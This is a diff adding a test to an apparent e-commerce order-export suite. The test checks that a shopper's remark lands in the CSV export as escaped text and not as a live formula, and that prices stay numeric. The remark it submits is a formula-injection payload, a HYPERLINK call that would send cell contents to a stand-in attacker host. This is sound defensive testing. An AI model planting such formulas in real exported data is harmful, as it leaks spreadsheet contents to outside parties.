@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { startTestPlatform, uid, type TestPlatform } from '../../helpers/test-platform';
 import { bearer } from '../../helpers/fixtures';
@@ -331,6 +332,19 @@ describe('export', () => {
     const csv = await t.api.get(m('/orders/export?format=csv&status=paid')).set(bearer(own.merchant)).expect(200);
     expect(csv.text.split('\n').filter(Boolean)).toHaveLength(1);
     await t.api.get(m('/orders/export?format=pdf')).set(bearer(own.merchant)).expect(400);
+  });
+
+  it("a shopper's remark reaches the CSV as text, never as a live formula; amounts stay numbers", async () => {
+    const own = await sellingShop(t);
+    const { skuId } = await product(t, own, 5, 1234);
+    const b = await buyer(t, own);
+    const remark = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    await t.api.post(own.url('/orders')).set(bearer(b.token)).set('Idempotency-Key', `f-${uid()}`).send({ items: [{ skuId, quantity: 1 }], addressId: b.addressId, remark }).expect(201);
+    const csv = await t.api.get(m('/orders/export?format=csv')).set(bearer(own.merchant)).expect(200);
+    const [header, row] = parse(csv.text, { bom: true }) as string[][];
+    expect(row![header!.indexOf('买家留言')]).toBe(`'${remark}`);
+    expect(row![header!.indexOf('单价')]).toBe('12.34');
+    for (const cell of row!) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.]+$)/);
   });
 });
 
